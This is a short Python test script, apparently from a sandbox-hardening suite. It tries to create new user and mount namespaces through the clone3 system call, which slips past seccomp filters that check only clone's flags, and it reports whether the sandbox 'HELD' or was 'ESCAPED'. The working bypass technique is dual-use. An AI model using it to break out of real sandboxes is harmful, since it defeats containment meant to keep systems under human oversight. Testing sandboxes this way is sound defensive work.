# attack: new namespaces by clone3(), whose flags no filter can see
# family: 7
# runs: call exec root
# stopped-by: seccomp
#
# seccomp reads registers, and clone3 takes a pointer: a filter that lists the flags of clone only is
# passed here (BoxLite CVE-2026-46695).
import ctypes
import errno
import os
import signal
import struct

_CLONE3 = 435
_NEWUSER, _NEWNS = 0x10000000, 0x00020000

_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long


def _syscall(number, *arguments):
    """What the kernel answered: a result, or minus an error number."""
    wide = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    result = _libc.syscall(ctypes.c_long(number), *wide)
    return result if result >= 0 else -ctypes.get_errno()


def attack():
    arguments = struct.pack("<11Q", _NEWUSER | _NEWNS, 0, 0, 0, signal.SIGCHLD, 0, 0, 0, 0, 0, 0)
    result = _syscall(_CLONE3, arguments, len(arguments))
    if result == 0:
        os._exit(0)
    if result > 0:
        os.waitpid(result, 0)
        return "ESCAPED: made namespaces"
    if result in (-errno.EPERM, -errno.ENOSYS, -errno.ENOSPC):
        return "HELD: clone3: " + os.strerror(-result)
    return f"ESCAPED: clone3 got through: {os.strerror(-result)}"


if __name__ == "__main__":
    verdict = attack()
    print(verdict)
    raise SystemExit({"HELD": 0, "ESCAPED": 42}.get(verdict.split(":")[0], 43))
